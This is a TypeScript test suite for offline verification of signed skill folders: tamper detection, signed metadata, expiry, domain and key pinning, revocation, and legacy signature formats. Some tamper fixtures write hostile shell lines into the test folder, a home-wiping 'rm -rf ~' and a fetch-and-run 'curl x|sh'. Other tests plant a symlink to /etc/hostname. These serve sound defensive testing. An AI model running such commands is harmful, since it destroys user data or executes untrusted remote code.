// verifySkillOffline: the §15.1 flow for skill folders — tampering, every signed field,
// unknown fields, legacy documents, expiry, domains, pins, revocation, order of the steps.
import assert from "node:assert/strict";
import { generateKeyPair, type PrivateKey } from "../../lib/crypto/keys.ts";
import { signDocument } from "../../lib/crypto/ecdsa.ts";
import { buildDiscoveryDocument } from "../../lib/discovery/document.ts";
import { MemoryPinStore, seedPin } from "../../lib/pins/store.ts";
import { LineageStore } from "../../lib/pins/lineage.ts";
import {
  formatSkillSignatureDocument,
  type SkillSignatureDocument,
  skillSigningInput,
} from "../../lib/skill/document.ts";
import { signSkillDir } from "../../lib/skill/sign.ts";
import {
  type SkillVerificationResult,
  verifySkillOffline,
  type VerifySkillOfflineOptions,
} from "../../lib/skill/verify.ts";
import { makeSkill, mkfifo } from "./trees.ts";
import { INTEROP_JS } from "../fixtures/interop.ts";

const INTEROP = INTEROP_JS;
const LEGACY = `${INTEROP}/legacy_skill`;
const key = generateKeyPair();
const otherKey = generateKeyPair();
const discovery = buildDiscoveryDocument({ publicKey: key.publicKey, developerName: "Dev" });
const NOW = Date.UTC(2026, 5, 1);

type Options = Omit<VerifySkillOfflineOptions, "pinStore"> & { pinStore?: MemoryPinStore };

function verify(dir: string, extra: Partial<Options> = {}): Promise<SkillVerificationResult> {
  return verifySkillOffline({
    dir,
    domain: "example.com",
    discovery,
    pinStore: extra.pinStore ?? new MemoryPinStore(),
    trustFirstUse: true,
    now: NOW,
    ...extra,
  } as VerifySkillOfflineOptions);
}

/** A signed skill folder; `writeDoc` rewrites its .schemapin.sig. */
async function signedSkill(
  options: { expiresAt?: string; schemaVersion?: string; previousHash?: string; sk?: PrivateKey } =
    {},
) {
  const s = await makeSkill({ "data/table.csv": "a,b\n1,2\n" });
  const { document } = await signSkillDir(s.dir, options.sk ?? key, {
    domain: "example.com",
    signedAt: Date.UTC(2026, 4, 1),
    expiresAt: options.expiresAt,
    schemaVersion: options.schemaVersion ?? "1.0.0",
    previousHash: options.previousHash,
  });
  const writeDoc = (doc: unknown) =>
    Deno.writeTextFile(`${s.dir}/.schemapin.sig`, JSON.stringify(doc, null, 2));
  await writeDoc(document);
  return { ...s, document, writeDoc };
}

/** Runs `fn` on a fresh {@linkcode signedSkill} folder, then removes it (also on failure). */
async function withSignedSkill(
  options: Parameters<typeof signedSkill>[0],
  fn: (s: Awaited<ReturnType<typeof signedSkill>>) => Promise<void>,
): Promise<void> {
  const s = await signedSkill(options);
  try {
    await fn(s);
  } finally {
    await s.cleanup();
  }
}

/** Re-signs a hand-made document with `key` (to reach checks that follow the signature). */
function resign(doc: Record<string, unknown>): Record<string, unknown> {
  const d = { ...doc, signature: "" } as unknown as SkillSignatureDocument;
  return { ...doc, signature: signDocument(skillSigningInput(d), key) };
}

Deno.test("verify: a signed folder verifies; first use pins only with the opt-in", async () => {
  await withSignedSkill({ expiresAt: "2027-01-01T00:00:00Z" }, async (s) => {
    const pins = new MemoryPinStore();
    const r = await verify(s.dir, { pinStore: pins });
    assert.equal(r.valid, true, r.errorMessage);
    assert.equal(r.toolId, "my-skill");
    assert.equal(r.domain, "example.com");
    assert.equal(r.keyPinning, "first_use");
    assert.equal(r.signatureFormat, "1.4");
    assert.equal(r.skillHash, s.document.skill_hash);
    assert.equal(r.files, 3);
    assert.equal(r.lineageAnchor, true);
    assert.equal(r.schemaVersion, "1.0.0");
    assert.equal(r.expiresAt, "2027-01-01T00:00:00Z");
    assert.equal(r.signedAt, "2026-05-01T00:00:00Z");
    assert.equal(r.signerKid, key.publicKey.fingerprint);
    assert.deepEqual(r.warnings, []);
    assert.equal(
      (await pins.get("my-skill", "example.com"))?.fingerprint,
      key.publicKey.fingerprint,
    );
    const again = await verify(s.dir, { pinStore: pins, trustFirstUse: false });
    assert.equal(again.keyPinning, "pinned");
    assert.equal(again.valid, true);
  });
});

Deno.test("verify: first use without opt-in or confirmation fails and pins nothing", async () => {
  await withSignedSkill({}, async (s) => {
    const pins = new MemoryPinStore();
    const r = await verify(s.dir, { pinStore: pins, trustFirstUse: false });
    assert.equal(r.valid, false);
    assert.equal(r.errorCode, "KEY_NOT_FOUND");
    assert.equal(r.keyPinning, "first_use_declined");
    assert.equal(await pins.get("my-skill", "example.com"), undefined);
    let asked = 0;
    const confirmed = await verify(s.dir, {
      pinStore: pins,
      trustFirstUse: false,
      confirmFirstUse: (info) => {
        asked++;
        assert.equal(info.fingerprint, key.publicKey.fingerprint);
        return true;
      },
    });
    assert.equal(confirmed.valid, true);
    assert.equal(asked, 1);
  });
});

for (
  const [name, change, expected] of [
    ["a modified file", (d: string) => Deno.writeTextFile(`${d}/scripts/run.sh`, "rm -rf ~\n"), {
      modified: ["scripts/run.sh"],
      added: [],
      removed: [],
    }],
    ["an added file", (d: string) => Deno.writeTextFile(`${d}/scripts/evil.sh`, "curl x|sh\n"), {
      modified: [],
      added: ["scripts/evil.sh"],
      removed: [],
    }],
    ["a removed file", (d: string) => Deno.remove(`${d}/data/table.csv`), {
      modified: [],
      added: [],
      removed: ["data/table.csv"],
    }],
    [
      "a nested .schemapin.sig added",
      (d: string) => Deno.writeTextFile(`${d}/data/.schemapin.sig`, "{}"),
      {
        modified: [],
        added: ["data/.schemapin.sig"],
        removed: [],
      },
    ],
  ] as const
) {
  Deno.test(`verify: ${name} fails, is listed, and pins nothing`, async () => {
    const s = await signedSkill();
    try {
      await change(s.dir);
      const pins = new MemoryPinStore();
      let asked = false;
      const r = await verify(s.dir, {
        pinStore: pins,
        trustFirstUse: false,
        confirmFirstUse: () => (asked = true),
      });
      assert.equal(r.valid, false);
      assert.equal(r.errorCode, "SIGNATURE_INVALID");
      assert.match(r.errorMessage!, /changed after signing/);
      assert.deepEqual(r.changes, expected);
      assert.equal(r.keyPinning, "not_pinned");
      assert.equal(asked, false, "first use is never offered for a failed verification");
      assert.equal(await pins.get("my-skill", "example.com"), undefined);
    } finally {
      await s.cleanup();
    }
  });
}

Deno.test("verify: editing any signed metadata field fails", async () => {
  await withSignedSkill({
    expiresAt: "2027-01-01T00:00:00Z",
    previousHash: "sha256:" + "1".repeat(64),
  }, async (s) => {
    const doc = s.document as unknown as Record<string, unknown>;
    const edits: Record<string, unknown> = {
      schemapin_version: "1.5",
      skill_name: "other-skill",
      skill_hash: "sha256:" + "2".repeat(64),
      signed_at: "2026-05-01T00:00:01Z",
      expires_at: "2099-01-01T00:00:00Z",
      schema_version: "9.0.0",
      previous_hash: "sha256:" + "3".repeat(64),
      canonicalization: "schemapin-v1",
      signer_kid: "someone-else",
      file_manifest: { ...s.document.file_manifest, "SKILL.md": "sha256:" + "4".repeat(64) },
    };
    for (const [field, value] of Object.entries(edits)) {
      await s.writeDoc({ ...doc, [field]: value });
      const r = await verify(s.dir);
      assert.equal(r.valid, false, `editing ${field} must fail`);
      assert.equal(r.errorCode, "SIGNATURE_INVALID", `${field}: ${r.errorMessage}`);
      assert.notEqual(r.keyPinning, "first_use");
    }
    for (const field of ["expires_at", "schema_version", "previous_hash", "signer_kid", "domain"]) {
      const { [field]: _, ...rest } = doc;
      await s.writeDoc(rest);
      const r = await verify(s.dir);
      assert.equal(r.errorCode, "SIGNATURE_INVALID", `removing ${field} must fail`);
    }
    // Another valid domain in the document: its signature no longer verifies.
    await s.writeDoc({ ...doc, domain: "example.org" });
    assert.equal((await verify(s.dir)).errorCode, "SIGNATURE_INVALID");
    // Downgrading to "1.3" selects the legacy algorithm, whose signature input differs.
    await s.writeDoc({ ...doc, schemapin_version: "1.3" });
    const down = await verify(s.dir);
    assert.equal(down.errorCode, "SIGNATURE_INVALID");
    assert.equal(down.signatureFormat, "legacy");
  });
});

Deno.test("verify: an edited unknown field is still valid, with an unprotected_fields warning", async () => {
  await withSignedSkill({}, async (s) => {
    await s.writeDoc({ ...s.document, x_publisher_note: "trust me", reviewed: true });
    const r = await verify(s.dir);
    assert.equal(r.valid, true, r.errorMessage);
    assert.deepEqual(r.warnings, ["unprotected_fields"]);
    assert.deepEqual(r.unprotectedFields, ["x_publisher_note", "reviewed"]);
    await s.writeDoc({ ...s.document, x_publisher_note: "edited again", reviewed: false });
    assert.equal((await verify(s.dir)).valid, true);
  });
});

Deno.test("verify: the domain argument is validated and is the only pin key", async () => {
  await withSignedSkill({}, async (s) => {
    for (const bad of ["https://example.com", "example.com:443", "127.0.0.1", "../x", ""]) {
      const r = await verify(s.dir, { domain: bad });
      assert.equal(r.errorCode, "INPUT_INVALID", bad);
      assert.equal(r.domain, undefined);
    }
    const pins = new MemoryPinStore();
    const upper = await verify(s.dir, { domain: "EXAMPLE.com", pinStore: pins });
    assert.equal(upper.valid, true);
    assert.equal(upper.domain, "example.com");
    assert.equal((await pins.list())[0].domain, "example.com");
    // The document names example.com; verifying it for another domain (same key) fails.
    const pins2 = new MemoryPinStore();
    const other = await verify(s.dir, { domain: "evil.example", pinStore: pins2 });
    assert.equal(other.errorCode, "DOMAIN_MISMATCH");
    assert.equal(other.domain, "evil.example");
    assert.deepEqual(await pins2.list(), []);
  });
});

Deno.test("verify: --tool-id overrides skill_name as the pin id; a bad one is refused", async () => {
  await withSignedSkill({}, async (s) => {
    const pins = new MemoryPinStore();
    const r = await verify(s.dir, { toolId: "pinned-as", pinStore: pins });
    assert.equal(r.valid, true);
    assert.equal(r.toolId, "pinned-as");
    assert.ok(await pins.get("pinned-as", "example.com"));
    assert.equal((await verify(s.dir, { toolId: "a\u0000b" })).errorCode, "INPUT_INVALID");
  });
});

Deno.test("verify: a pinned different key is KEY_PIN_MISMATCH", async () => {
  await withSignedSkill({}, async (s) => {
    const pins = new MemoryPinStore();
    await seedPin(pins, "my-skill", "example.com", otherKey.publicKey.fingerprint);
    const r = await verify(s.dir, { pinStore: pins });
    assert.equal(r.errorCode, "KEY_PIN_MISMATCH");
    assert.equal(r.pinnedFingerprint, otherKey.publicKey.fingerprint);
  });
});

Deno.test("verify: another key's signature fails", async () => {
  await withSignedSkill({ sk: otherKey }, async (s) => {
    const r = await verify(s.dir);
    assert.equal(r.errorCode, "SIGNATURE_INVALID");
    assert.equal(r.changes, undefined, "nothing changed in the folder");
  });
});

Deno.test("verify: expiry fails closed after the 300 s skew; --allow-expired degrades", async () => {
  await withSignedSkill({ expiresAt: "2026-05-02T00:00:00Z" }, async (s) => {
    const at = Date.parse("2026-05-02T00:00:00Z");
    assert.equal((await verify(s.dir, { now: at + 300_000 })).valid, true, "within the skew");
    const late = await verify(s.dir, { now: at + 300_001 });
    assert.equal(late.errorCode, "SIGNATURE_EXPIRED");
    assert.equal(late.expired, true);
    assert.equal(late.expiresAt, "2026-05-02T00:00:00Z");
    const allowed = await verify(s.dir, { now: at + 300_001, allowExpired: true });
    assert.equal(allowed.valid, true);
    assert.equal(allowed.expired, true);
    assert.deepEqual(allowed.warnings, ["signature_expired"]);
  });
});

Deno.test("verify: a signed but unparseable expires_at fails as expired", async () => {
  await withSignedSkill({}, async (s) => {
    for (const raw of ["2027-01-01", "2027-01-01 00:00:00Z", 1893456000]) {
      await s.writeDoc(resign({ ...s.document, expires_at: raw }));
      const r = await verify(s.dir);
      assert.equal(r.errorCode, "SIGNATURE_EXPIRED", String(raw));
      assert.equal(r.expired, true);
      const allowed = await verify(s.dir, { allowExpired: true });
      assert.deepEqual(allowed.warnings, ["signature_expires_at_unparseable"]);
    }
  });
});

Deno.test("verify: an unknown canonicalization fails before any key loading or hashing", async () => {
  await withSignedSkill({}, async (s) => {
    await mkfifo(`${s.dir}/pipe`); // hashing would fail with INPUT_INVALID
    await s.writeDoc({ ...s.document, canonicalization: "jcs-rfc8785" });
    const r = await verify(s.dir, { discovery: { not: "a discovery document" } });
    assert.equal(r.errorCode, "CANONICALIZATION_UNSUPPORTED");
    assert.equal(r.keyFingerprint, undefined, "no key was loaded");
    const caller = await verify(s.dir, { canonicalization: "jcs" });
    assert.equal(caller.errorCode, "CANONICALIZATION_UNSUPPORTED");
  });
});

Deno.test("verify: revocation is checked before the folder is hashed", async () => {
  await withSignedSkill({}, async (s) => {
    await mkfifo(`${s.dir}/pipe`);
    const revokedDiscovery = { ...discovery, revoked_keys: [key.publicKey.fingerprint] };
    const r = await verify(s.dir, { discovery: revokedDiscovery });
    assert.equal(r.errorCode, "KEY_REVOKED");
    assert.equal(r.skillHash, undefined);
  });
});

Deno.test("verify: a hostile folder is an input error and leaves no pin", async () => {
  await withSignedSkill({}, async (s) => {
    await Deno.symlink("/etc/hostname", `${s.dir}/data/link`);
    const pins = new MemoryPinStore();
    const r = await verify(s.dir, { pinStore: pins });
    assert.equal(r.errorCode, "INPUT_INVALID");
    assert.match(r.errorMessage!, /data\/link is a symbolic link/);
    assert.deepEqual(await pins.list(), []);
  });
});

Deno.test("verify: unsigned, unreadable or malformed .schemapin.sig", async () => {
  await withSignedSkill({}, async (s) => {
    await Deno.remove(`${s.dir}/.schemapin.sig`);
    const unsigned = await verify(s.dir);
    assert.equal(unsigned.errorCode, "SIGNATURE_INVALID");
    assert.match(unsigned.errorMessage!, /unsigned/);
    await Deno.writeTextFile(`${s.dir}/.schemapin.sig`, "{not json");
    assert.equal((await verify(s.dir)).errorCode, "JSON_INVALID");
    await Deno.remove(`${s.dir}/.schemapin.sig`);
    await mkfifo(`${s.dir}/.schemapin.sig`);
    const fifo = await verify(s.dir);
    assert.equal(fifo.errorCode, "INPUT_INVALID");
    assert.match(fifo.errorMessage!, /not a regular file/);
    await Deno.remove(`${s.dir}/.schemapin.sig`);
    await Deno.symlink(`${s.base}/elsewhere.sig`, `${s.dir}/.schemapin.sig`);
    assert.equal((await verify(s.dir)).errorCode, "INPUT_INVALID");
    await Deno.remove(`${s.dir}/.schemapin.sig`);
    await s.writeDoc({ schemapin_version: "1.4" });
    const bad = await verify(s.dir);
    assert.equal(bad.errorCode, "SIGNATURE_INVALID");
    assert.match(bad.errorMessage!, /skill_name is missing/);
  });
});

Deno.test("verify: a signed file_manifest inconsistent with skill_hash is refused", async () => {
  await withSignedSkill({}, async (s) => {
    const manifest = { ...s.document.file_manifest, "ghost.txt": "sha256:" + "5".repeat(64) };
    await s.writeDoc(resign({ ...s.document, file_manifest: manifest }));
    const r = await verify(s.dir);
    assert.equal(r.errorCode, "SIGNATURE_INVALID");
    assert.match(r.errorMessage!, /inconsistent/);
    assert.deepEqual(r.changes?.removed, ["ghost.txt"]);
  });
});

Deno.test("verify: in-memory files verify like the folder", async () => {
  await withSignedSkill({}, async (s) => {
    const files = [];
    for (const path of ["SKILL.md", "scripts/run.sh", "data/table.csv"]) {
      files.push({ path, content: await Deno.readFile(`${s.dir}/${path}`) });
    }
    const r = await verifySkillOffline({
      files,
      signature: s.document,
      domain: "example.com",
      discovery,
      pinStore: new MemoryPinStore(),
      trustFirstUse: true,
    });
    assert.equal(r.valid, true, r.errorMessage);
    files.pop();
    const missing = await verifySkillOffline({
      files,
      signature: s.document,
      domain: "example.com",
      discovery,
      pinStore: new MemoryPinStore(),
      trustFirstUse: true,
    });
    assert.deepEqual(missing.changes?.removed, ["data/table.csv"]);
    await assert.rejects(
      () =>
        verifySkillOffline({ domain: "example.com", discovery, pinStore: new MemoryPinStore() }),
      { name: "SchemaPinError", code: "INPUT_INVALID", message: /options\.dir and options\.files/ },
    );
  });
});

// ---- legacy (1.3) documents -------------------------------------------------------------

const wellKnown = JSON.parse(await Deno.readTextFile(`${INTEROP}/well_known.json`));

async function copyLegacy(): Promise<{ dir: string; cleanup: () => Promise<void> }> {
  const base = await Deno.makeTempDir({ prefix: "schemapin-legacy-" });
  const dir = `${base}/legacy_skill`;
  await new Deno.Command("cp", { args: ["-r", LEGACY, dir] }).output();
  await new Deno.Command("chmod", { args: ["-R", "u+w", dir] }).output();
  return { dir, cleanup: () => Deno.remove(base, { recursive: true }) };
}

Deno.test("legacy: the reference fixture verifies, warns, and is refused as a lineage anchor", async () => {
  const r = await verify(LEGACY, { discovery: wellKnown });
  assert.equal(r.valid, true, r.errorMessage);
  assert.equal(r.signatureFormat, "legacy");
  assert.deepEqual(r.warnings, ["legacy_signature_format"]);
  assert.equal(r.lineageAnchor, false);
  assert.equal(r.toolId, "public-legacy-skill");
  const lineage = new LineageStore({ memory: true });
  const outcome = await lineage.checkAndAdvance(r.toolId, r.domain!, r.document!);
  assert.equal(outcome.status, "rejected");
  assert.equal(outcome.status === "rejected" && outcome.reason, "legacy");
  assert.deepEqual(await lineage.list(), []);
});

Deno.test("legacy: a 1.4 document anchors lineage (the contrast)", async () => {
  await withSignedSkill({}, async (s) => {
    const r = await verify(s.dir);
    const outcome = await new LineageStore({ memory: true }).checkAndAdvance(
      r.toolId,
      r.domain!,
      r.document!,
    );
    assert.equal(outcome.status, "anchored");
  });
});

Deno.test("legacy: tampered content fails and is listed; unsigned metadata edits do not matter", async () => {
  const c = await copyLegacy();
  try {
    const sigPath = `${c.dir}/.schemapin.sig`;
    const sig = JSON.parse(await Deno.readTextFile(sigPath));
    // No metadata field is signed: an edited skill_name still verifies (hence the warning).
    await Deno.writeTextFile(
      sigPath,
      JSON.stringify({ ...sig, signed_at: "2030-01-01T00:00:00Z" }),
    );
    assert.equal((await verify(c.dir, { discovery: wellKnown })).valid, true);
    await Deno.writeTextFile(sigPath, JSON.stringify(sig));
    await Deno.writeFile(`${c.dir}/data.bin`, new Uint8Array([9, 9]));
    const r = await verify(c.dir, { discovery: wellKnown });
    assert.equal(r.errorCode, "SIGNATURE_INVALID");
    assert.deepEqual(r.changes, { modified: ["data.bin"], added: [], removed: [] });
  } finally {
    await c.cleanup();
  }
});

Deno.test("legacy: a reference-style '1.4' document signed the legacy way fails", async () => {
  const c = await copyLegacy();
  try {
    const sigPath = `${c.dir}/.schemapin.sig`;
    const sig = JSON.parse(await Deno.readTextFile(sigPath));
    await Deno.writeTextFile(sigPath, JSON.stringify({ ...sig, schemapin_version: "1.4" }));
    const r = await verify(c.dir, { discovery: wellKnown });
    assert.equal(r.valid, false);
    assert.equal(r.errorCode, "SIGNATURE_INVALID");
  } finally {
    await c.cleanup();
  }
});

// ---- a 1.4 label over a legacy signature (the reference SDKs' "1.4" documents) ----------
// The reference JavaScript SDK's signSkillWithOptions, given expiresIn, writes
// schemapin_version "1.4" and expires_at after signed_at but still signs only the legacy root
// hash. Its legacy_skill fixture relabelled that way is byte for byte such a document: the
// signature is the reference SDK's own, and it covers the root hash alone.
const REFERENCE_FIELD_ORDER = [
  "schemapin_version",
  "skill_name",
  "skill_hash",
  "signature",
  "signed_at",
  "expires_at",
  "domain",
  "signer_kid",
  "file_manifest",
];

function referenceStyle14(sig: Record<string, unknown>, extra: Record<string, unknown> = {}) {
  const doc: Record<string, unknown> = {
    ...sig,
    schemapin_version: "1.4",
    expires_at: "2027-11-30T04:11:30Z",
    ...extra,
  };
  return Object.fromEntries(REFERENCE_FIELD_ORDER.map((k) => [k, doc[k]]));
}

/** A copy of the reference legacy fixture whose document carries the reference's 1.4 label. */
async function copyMislabelled(extra: Record<string, unknown> = {}) {
  const c = await copyLegacy();
  const sigPath = `${c.dir}/.schemapin.sig`;
  const sig = JSON.parse(await Deno.readTextFile(sigPath));
  await Deno.writeTextFile(sigPath, JSON.stringify(referenceStyle14(sig, extra), null, 2) + "\n");
  return { ...c, sig };
}

const MISLABELLED =
  /schemapin_version "1\.4", but the signature covers only the legacy \(1\.3\) root hash sha256:c1224fc6/;

Deno.test("1.4 label, legacy signature: nothing modified is said, not 'every file modified'", async () => {
  const c = await copyMislabelled();
  try {
    const pinStore = new MemoryPinStore();
    const r = await verify(c.dir, { discovery: wellKnown, pinStore });
    assert.equal(r.valid, false);
    assert.equal(r.errorCode, "SIGNATURE_INVALID");
    assert.equal(r.signsLegacyHash, true);
    assert.equal(r.changes, undefined, "no file is reported as changed");
    assert.match(r.errorMessage!, MISLABELLED);
    assert.match(r.errorMessage!, /no file was modified/);
    assert.match(r.errorMessage!, /§4b, §18\.4/);
    assert.equal(r.lineageAnchor, false);
    assert.equal(r.document, undefined);
    assert.deepEqual(await pinStore.list(), [], "a failed verification writes no pin");
  } finally {
    await c.cleanup();
  }
});

Deno.test("1.4 label, legacy signature, and a modified file: only that file is listed", async () => {
  const c = await copyMislabelled();
  try {
    await Deno.writeFile(`${c.dir}/data.bin`, new Uint8Array([9, 9]));
    await Deno.writeTextFile(`${c.dir}/NEW.md`, "new\n");
    const r = await verify(c.dir, { discovery: wellKnown });
    assert.equal(r.errorCode, "SIGNATURE_INVALID");
    assert.equal(r.signsLegacyHash, true);
    assert.deepEqual(r.changes, { modified: ["data.bin"], added: ["NEW.md"], removed: [] });
    assert.match(r.errorMessage!, MISLABELLED);
    assert.match(r.errorMessage!, /no longer matches that legacy hash/);
    assert.doesNotMatch(r.errorMessage!, /no file was modified/);
  } finally {
    await c.cleanup();
  }
});

Deno.test("1.4 label, legacy signature: detected for in-memory files given once (an iterator)", async () => {
  const c = await copyMislabelled();
  try {
    const paths = ["SKILL.md", "data.bin", "scripts/run.sh"];
    const contents = await Promise.all(paths.map((p) => Deno.readFile(`${c.dir}/${p}`)));
    const files = function* () {
      for (let i = 0; i < paths.length; i++) yield { path: paths[i], content: contents[i] };
    };
    const signature = JSON.parse(await Deno.readTextFile(`${c.dir}/.schemapin.sig`));
    const r = await verifySkillOffline({
      files: files(),
      signature,
      domain: "example.com",
      discovery: wellKnown,
      pinStore: new MemoryPinStore(),
      trustFirstUse: true,
      now: NOW,
    });
    assert.equal(r.signsLegacyHash, true);
    assert.equal(r.changes, undefined);
    assert.match(r.errorMessage!, /no file was modified/);
  } finally {
    await c.cleanup();
  }
});

Deno.test("1.4 label, legacy signature: a later 1.x label is read the same way", async () => {
  const c = await copyMislabelled({ schemapin_version: "1.5" });
  try {
    const r = await verify(c.dir, { discovery: wellKnown });
    assert.equal(r.signsLegacyHash, true);
    assert.match(r.errorMessage!, /schemapin_version "1\.5", but the signature covers only/);
  } finally {
    await c.cleanup();
  }
});

Deno.test("1.4 label, legacy signature by another key: an ordinary bad signature", async () => {
  const c = await copyMislabelled();
  try {
    // discovery names `key`, not the reference signer: the signature verifies in no way.
    const r = await verify(c.dir, { discovery });
    assert.equal(r.errorCode, "SIGNATURE_INVALID");
    assert.equal(r.signsLegacyHash, undefined);
    assert.doesNotMatch(r.errorMessage!, /legacy \(1\.3\) root hash/);
  } finally {
    await c.cleanup();
  }
});

Deno.test("1.4 label, legacy signature over another skill_hash: not reported as a mislabel", async () => {
  const c = await copyMislabelled({ skill_hash: "sha256:" + "0".repeat(64) });
  try {
    const r = await verify(c.dir, { discovery: wellKnown });
    assert.equal(r.errorCode, "SIGNATURE_INVALID");
    assert.equal(r.signsLegacyHash, undefined);
    assert.doesNotMatch(r.errorMessage!, /legacy \(1\.3\) root hash/);
  } finally {
    await c.cleanup();
  }
});

Deno.test("1.4 label, legacy signature: the genuine 1.3 and 1.4 documents are unaffected", async () => {
  const legacy = await verify(LEGACY, { discovery: wellKnown });
  assert.equal(legacy.valid, true);
  assert.equal(legacy.signsLegacyHash, undefined);
  await withSignedSkill({}, async (s) => {
    const r = await verify(s.dir);
    assert.equal(r.valid, true, r.errorMessage);
    assert.equal(r.signsLegacyHash, undefined);
  });
});

Deno.test("1.4 label over a genuine 1.4 signature that was tampered: not reported as a mislabel", async () => {
  await withSignedSkill({}, async (s) => {
    await Deno.writeTextFile(`${s.dir}/data/table.csv`, "a,b\n1,3\n");
    await s.writeDoc({ ...s.document, skill_name: "other" });
    const r = await verify(s.dir);
    assert.equal(r.errorCode, "SIGNATURE_INVALID");
    assert.equal(r.signsLegacyHash, undefined);
    assert.deepEqual(r.changes?.modified, ["data/table.csv"]);
  });
});

Deno.test("legacy: a symbolic link aborts even though the legacy algorithm skipped links", async () => {
  const c = await copyLegacy();
  try {
    await Deno.symlink("/etc/hostname", `${c.dir}/extra`);
    const r = await verify(c.dir, { discovery: wellKnown });
    assert.equal(r.errorCode, "INPUT_INVALID");
  } finally {
    await c.cleanup();
  }
});

Deno.test("legacy: the signer's revocation applies to legacy documents too", async () => {
  const revocation = JSON.parse(
    await Deno.readTextFile(`${INTEROP}/revocations_signer_revoked.json`),
  );
  const r = await verify(LEGACY, { discovery: wellKnown, revocation });
  assert.equal(r.errorCode, "KEY_REVOKED");
});

Deno.test("format: the written document re-parses to the verified one", async () => {
  await withSignedSkill({}, async (s) => {
    await Deno.writeTextFile(`${s.dir}/.schemapin.sig`, formatSkillSignatureDocument(s.document));
    const r = await verify(s.dir);
    assert.equal(r.valid, true);
    assert.deepEqual(r.document, s.document);
  });
});
